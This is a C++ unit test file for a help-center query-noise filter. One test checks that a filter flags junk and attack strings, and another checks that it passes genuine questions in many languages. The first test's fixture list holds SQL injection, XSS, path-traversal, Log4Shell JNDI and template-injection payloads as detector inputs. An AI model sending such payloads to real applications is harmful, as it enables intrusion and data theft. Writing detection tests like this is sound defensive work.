#include "core/insights/gaps/query_noise.h"

#include <gtest/gtest.h>

namespace kb::insights {
namespace {

TEST(QueryNoise, IsWhatNobodyAsksAHelpCenter) {
  for (const char* text : {
           "' or 1=1 --",
           "1' union select null,null,null--",
           "admin'; drop table users; --",
           "<script>alert(1)</script>",
           "\"><img src=x onerror=alert(1)>",
           "../../../../etc/passwd",
           "%2e%2e%2f%2e%2e%2fwin.ini",
           "/wp-login.php",
           "${jndi:ldap://198.51.100.7/a}",
           "{{7*7}}",
           "<%= 7*7 %>",
           "https://casino.example/bonus www.pills.example",
           "http://198.51.100.7/shell",
           "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
           "sdkjfhskdjfhskdjfh",
           "aaaaaaaaaaaaaaaaaaaaaaaa",
           "???",
           "!!! ---",
           "",
           "«e-mail»",
           "«phone» «phone 2»",
       })
    EXPECT_TRUE(is_noise(text)) << text;
}

TEST(QueryNoise, IsNoQuestionInAnyLanguage) {
  for (const char* text : {
           "where is my parcel",
           "how do i select a plan or change it",
           "drop table from my dashboard",
           "{{name}} in templates",
           "${amount} placeholder",
           "<script> tag in my shop",
           "e-1042",
           "0x80070057",
           "err_connection_refused",
           "12345678",
           "404",
           "1=1",
           "550e8400",
           "https://app.example/settings does not load",
           "«e-mail» already used",
           "rechtsschutzversicherungsgesellschaften",
           "zmrzlina čtvrthrst",
           "jak usunąć konto?",
           "cât durează livrarea",
           "где мой заказ",
           "返金はいつですか",
           "كيف ألغي اشتراكي",
           "comment annuler l'abonnement",
       })
    EXPECT_FALSE(is_noise(text)) << text;
}

}  // namespace
}  // namespace kb::insights
